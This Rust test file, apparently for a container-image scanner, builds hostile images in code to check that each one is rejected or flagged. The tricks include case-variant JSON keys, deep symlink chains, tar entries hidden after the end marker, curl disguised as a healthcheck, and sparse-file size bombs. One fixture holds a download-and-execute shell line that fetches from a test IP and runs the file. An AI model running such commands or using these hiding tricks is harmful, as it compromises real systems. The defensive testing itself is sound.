//! Issue 15 (hostile images): each defect of the adversarial probe as an
//! image built in code that must fail closed — an error (exit 2) or a
//! finding — where the old code gave a quiet exit 0.

use serde_json::json;
use stowaway::digest::Sha256;
use stowaway::fixture::{BuiltImage, ImageBuilder, LayerBuilder, tar_of};

use crate::util::*;

fn curl_like() -> Vec<u8> {
    b"\x7fELF\x02\x01\x01 Usage: curl [options...] <url>".to_vec()
}

/// Replace the config bytes as written (keys Go reads case-insensitively);
/// the config digest and manifest follow.
fn set_config(img: &mut BuiltImage, raw: Vec<u8>) {
    img.config = raw;
    img.config_digest = Sha256::of(&img.config);
    img.edit_manifest(|_| {});
}

fn set_manifest(img: &mut BuiltImage, raw: Vec<u8>) {
    img.manifest = raw;
    img.manifest_digest = Sha256::of(&img.manifest);
}

/// Insert `extra` right after the first `{` following `anchor` in `doc`.
fn insert_after(doc: &[u8], anchor: &str, extra: &str) -> Vec<u8> {
    let s = String::from_utf8(doc.to_vec()).unwrap();
    let at = s.find(anchor).unwrap_or_else(|| panic!("{anchor} in {s}"));
    let open = at + s[at..].find('{').unwrap() + 1;
    format!("{}{}{}", &s[..open], extra, &s[open..]).into_bytes()
}

fn simple() -> BuiltImage {
    ImageBuilder::new()
        .layer(LayerBuilder::new().file("bin/ok", b"#!/bin/sh\necho ok\n", 0o755))
        .config("Cmd", json!(["/bin/ok"]))
        .build()
}

fn assert_doc_error(r: &str, key: &str, doc: &str) {
    let err = scan(r)
        .err()
        .unwrap_or_else(|| panic!("{r} must be rejected"));
    let msg = err.to_string();
    assert!(msg.contains(key) && msg.contains(doc), "{r}: {msg}");
    let out = stowaway(&["scan", r]);
    assert_eq!(out.status.code(), Some(2), "{r}");
}

#[test]
fn issue15_manifest_with_layers_and_layers_in_other_case_is_rejected() {
    let mut img = simple();
    // The runtime (Go) takes the last "Layers"; serde took "layers".
    let raw = String::from_utf8(img.manifest.clone()).unwrap();
    let raw = raw.replacen("{", r#"{"Layers":[],"#, 1);
    set_manifest(&mut img, raw.into_bytes());
    let t = tmp();
    for r in all_forms(&img, t.path()).iter().take(2) {
        assert_doc_error(r, "\"Layers\"", "image manifest");
    }
}

#[test]
fn issue15_config_with_cmd_and_cmd_in_other_case_is_rejected() {
    let mut img = simple();
    let raw = insert_after(&img.config, "\"config\"", r#""cmd":["/usr/bin/curl"],"#);
    set_config(&mut img, raw);
    let t = tmp();
    for r in all_forms(&img, t.path()) {
        assert_doc_error(&r, "\"Cmd\"", "image config");
    }
    // diff_ids / Diff_ids, one level down.
    let mut img = simple();
    let raw = insert_after(&img.config, "\"rootfs\"", r#""Diff_ids":[],"#);
    set_config(&mut img, raw);
    let (_t, r) = layout(&img);
    assert_doc_error(&r, "\"Diff_ids\"", "image config");
}

#[test]
fn issue15_exact_duplicate_keys_in_index_json_are_rejected() {
    let img = simple();
    let t = tmp();
    let dir = t.path().join("layout");
    img.write_oci_layout(&dir).unwrap();
    let ix = std::fs::read_to_string(dir.join("index.json")).unwrap();
    std::fs::write(
        dir.join("index.json"),
        ix.replacen("{", r#"{"manifests":[],"#, 1),
    )
    .unwrap();
    assert_doc_error(
        &format!("oci:{}", dir.display()),
        "\"manifests\" appears twice",
        "image index",
    );
}

#[test]
fn issue15_docker_archive_manifest_json_with_case_variant_keys_is_rejected() {
    let img = simple();
    let config_name = format!("{}.json", img.config_digest.hex());
    let layer = format!("{}/layer.tar", img.layers[0].diff_id.hex());
    let manifest =
        format!(r#"[{{"Config":"{config_name}","RepoTags":[],"Layers":["{layer}"],"layers":[]}}]"#);
    let files = vec![
        (layer.clone(), img.layers[0].tar.clone()),
        (config_name, img.config.clone()),
        ("manifest.json".to_string(), manifest.into_bytes()),
    ];
    let t = tmp();
    let f = t.path().join("d.tar");
    std::fs::write(&f, tar_of(&files)).unwrap();
    assert_doc_error(
        &format!("docker-archive:{}", f.display()),
        "\"layers\"",
        "manifest.json",
    );
}

#[test]
fn issue15_max_link_depth_flag_and_policy_key_are_used() {
    // The entrypoint reaches curl through 45 symlinks: beyond the default
    // depth of 40, within --max-link-depth 64.
    let mut l = LayerBuilder::new().file("usr/bin/curl", &curl_like(), 0o755);
    for i in 0..45 {
        let next = if i == 44 {
            "/usr/bin/curl".to_string()
        } else {
            format!("/l/{}", i + 1)
        };
        l = l.symlink(&format!("l/{i}"), &next);
    }
    let img = ImageBuilder::new()
        .layer(l)
        .config("Entrypoint", json!(["/l/0"]))
        .build();
    let (t, r) = layout(&img);
    let entry_code = "entrypoint-transfer-tool";
    let found = |limits: stowaway::Limits| {
        let opts = stowaway::ScanOptions {
            limits,
            ..Default::default()
        };
        stowaway::scan(&r, &opts)
            .unwrap()
            .findings
            .iter()
            .any(|f| f.code.to_string() == entry_code)
    };
    assert!(!found(stowaway::Limits::default()));
    let deep = stowaway::Limits {
        max_link_depth: 64,
        ..Default::default()
    };
    assert!(found(deep), "--max-link-depth 64 must follow 45 links");
    let shallow = stowaway::Limits {
        max_link_depth: 2,
        ..Default::default()
    };
    assert!(!found(shallow));
    // Through the CLI flag and the policy key.
    let out = stowaway(&["scan", &r, "--format", "json", "--max-link-depth", "64"]);
    assert!(String::from_utf8_lossy(&out.stdout).contains(entry_code));
    let pol = t.path().join("p.toml");
    std::fs::write(&pol, "[limits]\nmax_link_depth = 64\n").unwrap();
    let out = stowaway(&[
        "gate",
        &r,
        "--policy",
        pol.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains(entry_code), "{text}");
}

#[test]
fn issue15_entries_after_end_of_archive_are_reported() {
    let hidden = LayerBuilder::new()
        .file("usr/local/bin/hidden-curl", &curl_like(), 0o755)
        .file(
            "etc/cron.d/x",
            b"* * * * * root /usr/local/bin/hidden-curl\n",
            0o644,
        )
        .tar_bytes();
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .file("bin/ok", b"ok", 0o755)
                .garbage_after_end(&hidden),
        )
        .build();
    let (_t, r) = layout(&img);
    let s = scan_ok(&r);
    let f = s
        .findings
        .iter()
        .find(|f| f.code.as_str() == "entries-after-end")
        .unwrap_or_else(|| panic!("{:?}", codes(&s)));
    let ev = f.evidence.join(" ");
    assert!(
        ev.contains("2 tar entries") && ev.contains("usr/local/bin/hidden-curl"),
        "{ev}"
    );
    assert_eq!(f.layer.as_ref().map(|l| l.index), Some(0));
    // Zero padding and non-header junk after the marker are not entries.
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .file("a", b"a", 0o644)
                .garbage_after_end(&[0u8; 9216])
                .garbage_after_end(&[0x55; 3000]),
        )
        .build();
    let (_t, r) = layout(&img);
    assert!(
        !codes(&scan_ok(&r))
            .iter()
            .any(|c| c.starts_with("entries-after-end"))
    );
}

#[test]
fn issue15_dot_whiteouts_delete_nothing_and_are_reported() {
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .dir("app", 0o755)
                .file("app/run", b"#!/bin/sh\n", 0o755)
                .file("top", b"t", 0o644),
        )
        .layer(
            LayerBuilder::new()
                .file("app/.wh..", b"", 0o644)
                .file("app/.wh...", b"", 0o644),
        )
        .build();
    let (_t, r) = layout(&img);
    let s = scan_ok(&r);
    let p = paths(&s);
    assert!(
        p.contains(&"/app/run".to_string()) && p.contains(&"/top".to_string()),
        "{p:?}"
    );
    assert!(s.fs.removed.is_empty(), "{:?}", removed_rows(&s));
    let c = codes(&s);
    for name in ["/app/.wh..", "/app/.wh..."] {
        assert!(c.contains(&format!("malformed-whiteout {name}")), "{c:?}");
    }
}

#[test]
fn issue15_hardlinks_are_judged_under_their_own_name() {
    // Layer 1 ships curl; layer 2 links it as a "healthcheck" (overlayfs
    // copies the file up, so layer 2 carries curl again, same bytes).
    let img = ImageBuilder::new()
        .layer(LayerBuilder::new().file("usr/bin/curl", &curl_like(), 0o755))
        .layer(
            LayerBuilder::new()
                .file("usr/bin/curl", &curl_like(), 0o755)
                .hardlink("usr/local/bin/healthcheck", "usr/bin/curl"),
        )
        .build();
    let (t, r) = layout(&img);
    let s = scan_ok(&r);
    let c = codes(&s);
    assert!(
        c.contains(&"disguised-tool /usr/local/bin/healthcheck".to_string()),
        "{c:?}"
    );
    // The original is still visible: not "overwritten", not hidden.
    assert!(s.fs.removed.is_empty(), "{:?}", removed_rows(&s));
    assert!(!s.findings.iter().any(|f| f.hidden_in.is_some()), "{c:?}");
    // Allowing curl by its path does not allow the other name.
    let pol = t.path().join("p.toml");
    std::fs::write(
        &pol,
        "[[allow]]\ncode = \"transfer-tool\"\npath = \"/usr/bin/curl\"\nreason = \"needed\"\n",
    )
    .unwrap();
    let out = stowaway(&["gate", &r, "--policy", pol.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("/usr/local/bin/healthcheck"), "{text}");

    // A hardlink made before its target is overwritten keeps the old bytes
    // visible: the old version is not reported as hidden.
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .file("opt/a", &curl_like(), 0o755)
                .hardlink("opt/b", "opt/a")
                .file("opt/a", b"#!/bin/sh\necho new\n", 0o755),
        )
        .build();
    let (_t, r) = layout(&img);
    let s = scan_ok(&r);
    assert!(s.fs.removed.is_empty(), "{:?}", removed_rows(&s));
    assert!(
        codes(&s).contains(&"disguised-tool /opt/b".to_string()),
        "{:?}",
        codes(&s)
    );
}

fn node_of<'a>(s: &'a stowaway::Scan, p: &str) -> &'a stowaway::layer::Entry {
    &s.fs
        .nodes
        .values()
        .find(|n| n.entry.path.display() == p)
        .unwrap_or_else(|| panic!("{p} in {:?}", paths(s)))
        .entry
}

#[test]
fn issue15_pax_and_gnu_sparse_files_are_hashed_and_inspected_expanded() {
    let curl = curl_like();
    let real = 10_000u64;
    let mut expanded = vec![0u8; real as usize];
    expanded[..curl.len()].copy_from_slice(&curl);
    expanded[8192..8196].copy_from_slice(b"tail");
    let segs: &[(u64, &[u8])] = &[(0, &curl), (8192, b"tail")];
    for format in ["0.0", "0.1", "1.0", "gnu"] {
        let l = match format {
            "gnu" => LayerBuilder::new().sparse_gnu("usr/local/bin/healthcheck", segs, real),
            f => LayerBuilder::new().sparse_pax("usr/local/bin/healthcheck", f, segs, real),
        };
        let img = ImageBuilder::new().layer(l).build();
        let (_t, r) = layout(&img);
        let s = scan_ok(&r);
        let e = node_of(&s, "/usr/local/bin/healthcheck");
        assert_eq!(e.size, real, "{format}");
        assert_eq!(e.sha256, Some(Sha256::of(&expanded)), "{format}");
        let c = codes(&s);
        assert!(
            c.contains(&"disguised-tool /usr/local/bin/healthcheck".to_string())
                && c.contains(&"sparse-file /usr/local/bin/healthcheck".to_string()),
            "{format}: {c:?}"
        );
        assert_eq!(paths(&s).len(), 1, "{format}: {:?}", paths(&s));
    }
}

#[test]
fn issue15_sparse_maps_that_lie_are_errors() {
    // The map lists more data than the entry stores, or overlapping segments.
    let img = ImageBuilder::new()
        .layer(LayerBuilder::new().sparse_pax("f", "1.0", &[(0, b"abc")], 2))
        .build();
    let (_t, r) = layout(&img);
    let e = scan(&r).err().expect("past its size").to_string();
    assert!(e.contains("sparse file /f") && e.contains("layer 0"), "{e}");
    let img = ImageBuilder::new()
        .layer(LayerBuilder::new().sparse_gnu("g", &[(10, b"abc"), (11, b"d")], 20))
        .build();
    let (_t, r) = layout(&img);
    let e = scan(&r).err().expect("overlap").to_string();
    assert!(e.contains("overlapping"), "{e}");
}

#[test]
fn issue15_sparse_expansion_counts_against_image_limits() {
    // 300 GiB described by a few hundred bytes: refused before hashing.
    let big = 300u64 << 30;
    let img = ImageBuilder::new()
        .layer(LayerBuilder::new().sparse_pax("huge", "1.0", &[(0, b"x")], big))
        .build();
    let (_t, r) = layout(&img);
    let e = scan(&r).err().expect("limit").to_string();
    assert!(e.contains("--max-layer-size"), "{e}");
    let opts = stowaway::ScanOptions {
        limits: stowaway::Limits {
            max_layer_bytes: 1 << 40,
            ..Default::default()
        },
        ..Default::default()
    };
    let e = stowaway::scan(&r, &opts).err().expect("limit").to_string();
    assert!(e.contains("--max-image-size"), "{e}");
    // Two layers of small sparse files: together over a 1 MiB image budget.
    let layer = |p: &str| LayerBuilder::new().sparse_pax(p, "0.1", &[(0, b"x")], 600 << 10);
    let img = ImageBuilder::new()
        .layer(layer("a"))
        .layer(layer("b"))
        .build();
    let (_t, r) = layout(&img);
    let small = |max_image_bytes| stowaway::ScanOptions {
        limits: stowaway::Limits {
            max_image_bytes,
            ..Default::default()
        },
        ..Default::default()
    };
    let e = stowaway::scan(&r, &small(1 << 20))
        .err()
        .expect("limit")
        .to_string();
    assert!(e.contains("--max-image-size"), "{e}");
    assert!(stowaway::scan(&r, &small(2 << 20)).is_ok());
    let out = stowaway(&["scan", &r, "--max-image-size", "1M"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn issue15_gnu_sparse_map_is_read_in_linear_time_and_bounded() {
    // 40,000 one-byte segments (the tar crate's own reader is quadratic here).
    let n = 40_000u64;
    let bytes: Vec<[u8; 1]> = (0..n).map(|i| [(i % 251) as u8 + 1]).collect();
    let segs: Vec<(u64, &[u8])> = (0..n).map(|i| (i * 2, &bytes[i as usize][..])).collect();
    let mut expanded = vec![0u8; (2 * n) as usize];
    for i in 0..n as usize {
        expanded[2 * i] = bytes[i][0];
    }
    let img = ImageBuilder::new()
        .layer(LayerBuilder::new().sparse_gnu("many", &segs, 2 * n))
        .build();
    let (_t, r) = layout(&img);
    let s = scan_ok(&r);
    assert_eq!(node_of(&s, "/many").sha256, Some(Sha256::of(&expanded)));
    // The map's size is bounded by --max-entries.
    let opts = stowaway::ScanOptions {
        limits: stowaway::Limits {
            max_entries: 1000,
            ..Default::default()
        },
        ..Default::default()
    };
    let e = stowaway::scan(&r, &opts)
        .err()
        .expect("bounded")
        .to_string();
    assert!(e.contains("--max-entries"), "{e}");
}

#[test]
fn issue15_image_wide_entry_limit_counts_every_layer_cached_or_not() {
    let layer = |n: usize, tag: &str| {
        (0..n).fold(LayerBuilder::new(), |l, i| {
            l.file(&format!("{tag}/f{i}"), b"", 0o644)
        })
    };
    let img = ImageBuilder::new()
        .layer(layer(400, "a"))
        .layer(layer(400, "b"))
        .layer(layer(400, "c"))
        .build();
    let (t, r) = layout(&img);
    let with = |max_entries, max_image_entries| stowaway::ScanOptions {
        limits: stowaway::Limits {
            max_entries,
            max_image_entries,
            ..Default::default()
        },
        ..Default::default()
    };
    assert!(stowaway::scan(&r, &with(500, 1300)).is_ok());
    let e = stowaway::scan(&r, &with(500, 1000))
        .err()
        .expect("limit")
        .to_string();
    assert!(e.contains("--max-image-entries"), "{e}");
    // Through the CLI, with the layers in the cache after a first scan.
    let db = t.path().join("s.db");
    let db = db.to_str().unwrap();
    assert_eq!(stowaway(&["scan", &r, "--db", db]).status.code(), Some(0));
    let out = stowaway(&["scan", &r, "--db", db, "--max-image-entries", "1000"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--max-image-entries"));
    let pol = t.path().join("p.toml");
    std::fs::write(&pol, "[limits]\nmax_image_entries = 1000\n").unwrap();
    let out = stowaway(&["gate", &r, "--db", db, "--policy", pol.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn issue15_fat_macho_with_billions_of_broken_architectures_is_bounded() {
    // Found by the fuzz suite: a fat header claiming 2^32-1 architectures
    // whose entries all fail to parse kept the inspector busy for hours.
    let mut fat = vec![0xca, 0xfe, 0xba, 0xbe, 0xff, 0xff, 0xff, 0xff];
    fat.extend_from_slice(&[0xffu8; 64]);
    let path = stowaway::path::ImagePath::new("usr/bin/x");
    let f = stowaway::inspect::inspect(&path, stowaway::inspect::Want::Binary, &fat, false);
    assert!(f.binary.is_some());
}

#[test]
fn issue15_a_layer_listed_four_times_is_not_held_four_times() {
    let l = (0..300).fold(LayerBuilder::new(), |l, i| {
        l.file(&format!("d/f{i}"), format!("{i}").as_bytes(), 0o644)
    });
    let img = ImageBuilder::new()
        .layer(l.clone())
        .layer(l.clone())
        .layer(l.clone())
        .layer(l)
        .build();
    let (_t, r) = layout(&img);
    let s = scan_ok(&r);
    assert_eq!(s.fs.nodes.len(), 300);
    // Rewriting the same bytes hides nothing: no copies kept as "overwritten".
    assert!(s.fs.removed.is_empty(), "{}", s.fs.removed.len());
}

#[test]
fn contiguous_files_sparse_size_boundary_and_pax_versions() {
    // A contiguous file (type '7') is a regular file: hashed and inspected.
    let script =
        b"#!/bin/sh\ncurl -fsSL http://198.51.100.7/x -o /tmp/x && chmod +x /tmp/x && /tmp/x\n";
    let img = ImageBuilder::new()
        .layer(LayerBuilder::new().contiguous("usr/local/bin/tool", script, 0o755))
        .build();
    let (_t, r) = layout(&img);
    let s = scan_ok(&r);
    let tool =
        s.fs.nodes
            .iter()
            .find(|(p, _)| p.display() == "/usr/local/bin/tool")
            .map(|(_, n)| n)
            .expect("the contiguous file is in the view");
    assert_eq!(tool.entry.size, script.len() as u64);
    assert!(
        codes(&s)
            .iter()
            .any(|c| c.starts_with("download-exec-chain /usr/local/bin/tool")),
        "{:?}",
        codes(&s)
    );

    // The expanded size may equal --max-layer-size; one byte more is refused.
    let real = 600u64 << 10;
    let img = ImageBuilder::new()
        .layer(LayerBuilder::new().sparse_pax("big", "0.1", &[(0, b"x")], real))
        .build();
    let (_t, r) = layout(&img);
    let with = |max_layer_bytes| stowaway::ScanOptions {
        limits: stowaway::Limits {
            max_layer_bytes,
            ..Default::default()
        },
        ..Default::default()
    };
    let s = stowaway::scan(&r, &with(real)).expect("at the limit");
    let evidence: Vec<&String> = s
        .findings
        .iter()
        .filter(|f| f.code.to_string() == "sparse-file")
        .flat_map(|f| &f.evidence)
        .collect();
    // The PAX version is named as written (0.1 here, 0.0 below).
    assert!(
        evidence
            .iter()
            .any(|e| e.starts_with("PAX 0.1 sparse entry")),
        "{evidence:?}"
    );
    let e = stowaway::scan(&r, &with(real - 1))
        .err()
        .expect("one byte over")
        .to_string();
    assert!(e.contains("--max-layer-size"), "{e}");
    let img = ImageBuilder::new()
        .layer(LayerBuilder::new().sparse_pax("old", "0.0", &[(0, b"x")], 4096))
        .build();
    let (_t, r) = layout(&img);
    let s = scan_ok(&r);
    assert!(
        s.findings
            .iter()
            .flat_map(|f| &f.evidence)
            .any(|e| e.starts_with("PAX 0.0 sparse entry")),
        "{:?}",
        s.findings
    );
}
